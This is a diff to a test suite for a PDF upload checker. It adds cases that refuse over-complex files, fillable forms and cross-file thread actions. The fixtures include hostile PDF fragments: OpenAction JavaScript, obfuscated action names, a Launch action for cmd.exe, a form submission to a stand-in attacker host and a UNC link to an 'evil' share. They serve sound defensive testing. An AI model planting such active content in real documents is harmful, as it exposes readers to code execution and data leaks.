@@ -99,6 +99,11 @@ describe('a PDF', () => {
     ['that hides its packed objects', withCatalogue('', packed([9, '<< /Type /Font >>']).toString('latin1').replace('/Type /ObjStm', '/Type 8 0 R  '))],
   ])('%s is refused as unreadable', async (_, file) => expectRefused(file, 'UNREADABLE'));
 
+  test('of more parts than any paper has is refused before anybody waits for it', async () => {
+    const parts = Array.from({ length: 20_001 }, (_, i) => `${i + 9} 0 obj<<>>endobj`).join('\n');
+    await expectRefused(withCatalogue('', Buffer.from(parts)), 'TOO_COMPLEX');
+  });
+
   test.each<[string, Buffer]>([
     ['a script when it opens', withCatalogue('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>')],
     ['a script under an escaped name', withCatalogue('/OpenAction << /S /J#61vaScript /J#53 (x) >>')],
@@ -111,6 +116,8 @@ describe('a PDF', () => {
     ['a program to launch', withCatalogue('/OpenAction << /S /Launch /F (cmd.exe) >>')],
     ['a program to launch, named elsewhere', withCatalogue('/OpenAction << /S 4 0 R /F (cmd.exe) >>', '/Launch')],
     ['a form that is sent', withCatalogue('', '<< /S /SubmitForm /F (https://evil.example) >>')],
+    ['a form to be filled in', withCatalogue('/AcroForm << /Fields [] >>')],
+    ['a leap to another file', withCatalogue('', '<< /Type /Action /S /Thread /F (\\\\evil\\x.pdf) >>')],
     ['an XFA form', withCatalogue('/AcroForm << /Fields [] /XFA 4 0 R >>', stream('', Buffer.from('<xdp/>')))],
     ['a film', withCatalogue('', '<< /Type /Annot /Subtype /RichMedia >>')],
   ])('with %s is refused as active', async (_, file) => expectRefused(file, 'ACTIVE'));
